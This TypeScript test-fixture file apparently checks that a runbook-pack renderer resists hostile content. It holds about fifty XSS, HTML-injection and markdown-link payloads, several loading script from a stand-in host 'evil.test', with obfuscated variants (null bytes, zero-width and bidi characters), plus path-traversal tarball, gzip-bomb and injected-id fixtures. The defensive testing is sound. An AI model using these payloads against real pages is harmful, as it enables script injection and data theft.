/** Texts that would run, fetch, hide, or break a page, and packs that are made of them. */
import { gzipSync } from 'node:zlib'
import { makePack, tarOf, withBytes, type MadePack } from './make-pack.js'

const RUN = 'globalThis.hacked=1'

/** What would run or fetch if it came into a page as it is. */
const CORES: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></math>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>">`,
  `<iframe src="javascript:${RUN}">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="//evil.test/">`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<style>@import '//evil.test/x.css'; * { display: none }</style>`,
  `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `<!--><script>${RUN}</script>-->`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<template><script>${RUN}</script></template>`,
  `]]><script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<a id=document name=cookie>x</a>`,
  `<form id=rk-search><input name=submit></form>`,
  `<img name=getElementById>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java&#x0A;script:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)`,
  `[x](vbscript:${RUN})`,
  `[x](//evil.test/)`,
  `[x](<../../../etc/passwd>)`,
  `![x](//evil.test/x.png)`,
  `![x](javascript:${RUN})`,
  `![x](x "title\\" onerror=${RUN}")`,
  `[x]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  '`<script>globalThis.hacked=1</script>`'
]

/** How a text is changed, to come by what only knows it as it is. */
const COATS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('script', 'scr\u0000ipt').replaceAll('<', '<\u200B'),
  (text) => text.toUpperCase().replaceAll('GLOBALTHIS.HACKED', 'globalThis.hacked'),
  (text) => `\u202E${text}\u2066${'W'.repeat(300)}`
]

/** 200 texts. */
export const PAYLOADS: readonly string[] = CORES.flatMap((core) => COATS.map((coat) => coat(core)))

/** A runbook with a text wherever a text can stand. */
function runbookWith(payload: string): string {
  const line = payload.replaceAll('\n', ' ')
  return `# ${line}

${payload}

## When to use

- **Alert**: \`${line.replaceAll('`', '')}\`
- **Symptom**: ${line}

## Immediate safety checks

### Check 1: ${line}

${payload}

\`\`\`bash
echo '${payload}'
\`\`\`

- **If \`${line.replaceAll('`', '')}\`**: ${line} **STOP: escalate**
- **If ${line}**: [Check 1]
- **Otherwise**: **STOP: escalate**

| ${line.replaceAll('|', '')} | x |
|---|---|
| x | ${line.replaceAll('|', '')} |

[Check 1]: #${encodeURIComponent(line)}
`
}

/** A pack with a text wherever a text can stand. */
export function hostilePack(payload: string, place: number): MadePack {
  const line = payload.replaceAll('\n', ' ').slice(0, 190)
  return makePack({
    slug: `hostile-${String(place).padStart(3, '0')}`,
    readme: runbookWith(payload),
    checklist: `# Checklist\n\n## Immediate safety checks\n\n- [ ] [Check 1]: ${line} Value: \`____\` Time: \`__:__\`\n`,
    changelog: `# x\n\n## 1.0.0 - 2026-11-23\n\n${payload}\n`,
    metadata: {
      title: line,
      description: payload,
      outcome: line.slice(0, 100),
      tags: [line],
      author: { name: line },
      license_spdx: line,
      inputs: [{ name: 'AN_INPUT', description: payload, example: line }],
      references_node_keys: ['node-nowhere'],
      compliance_relevance: [line]
    },
    files: { 'SETUP.md': `# Setup\n\n${payload}\n`, [`scripts/${place}.sh`]: payload }
  })
}

const HARMLESS = '# A pack\n\nText.\n'

/** Packs that cannot be shown, with what is said of each. */
export function refusedPacks(): readonly (readonly [MadePack, said: RegExp])[] {
  const sound = (slug: string): MadePack => makePack({ slug, readme: HARMLESS })
  const long = makePack({ slug: 'too-long', readme: HARMLESS + 'x'.repeat(5_000_000) })
  const deep = makePack({ slug: 'too-deep', readme: `${HARMLESS}\n${'> '.repeat(2000)}x\n` })
  const outside = tarOf([['package/../../outside.txt', Buffer.from('x')]])
  return [
    [long, /too large|larger than/],
    [deep, /nested deeper/],
    [withBytes(sound('path-outside'), gzipSync(outside)), /unpacked safely/],
    [withBytes(sound('bomb'), gzipSync(Buffer.alloc(60_000_000))), /unpacked safely/],
    [withBytes(sound('no-tarball'), Buffer.from('nothing')), /unpacked safely/],
    [withBytes(sound('another-text'), makePack({ slug: 'another-text', readme: '# Another\n' }).bytes), /content hash/],
    [
      makePack({ slug: 'odd-model', readme: HARMLESS, files: { 'runbook.json': '{"runbook":{"steps":"none"}}' } }),
      /runbook\.json is not a model/
    ]
  ]
}

/** Packs that are odd, and must be shown. */
export function oddPacks(): readonly MadePack[] {
  const steps = Array.from(
    { length: 500 },
    (_, index) =>
      `### Step ${index + 1}: A step ${index}\n\n- **If \`x\`**: [Step ${((index * 37) % 500) + 1}]\n- **Otherwise**: **STOP: escalate**\n`
  )
  const definitions = Array.from(
    { length: 500 },
    (_, index) => `[Step ${index + 1}]: #step-${index + 1}-a-step-${index}`
  )
  return [
    makePack({
      slug: 'many-steps',
      readme: `# Many\n\n## Diagnosis flow\n\n${steps.join('\n')}\n${definitions.join('\n')}\n`
    }),
    makePack({
      slug: 'long-word',
      readme: `# ${'W'.repeat(150)}\n\n${'W'.repeat(10_000)}\n\n## Diagnosis flow\n\n### Step 1: ${'W'.repeat(400)}\n\n\`\`\`bash\n${'x'.repeat(10_000)}\n\`\`\`\n`,
      metadata: { title: 'W'.repeat(200), description: 'W'.repeat(5000) }
    }),
    makePack({
      slug: 'lying-ids',
      readme: '# Lies\n\n## Diagnosis flow\n\n### Step 1: One\n\n### Step 2: Two\n',
      lie({ runbook }) {
        for (const [place, id] of ['"><script>globalThis.hacked=1</script>', 'rk-main'].entries()) {
          const step = runbook.steps[place]
          if (step) step.id = id
        }
      }
    })
  ]
}
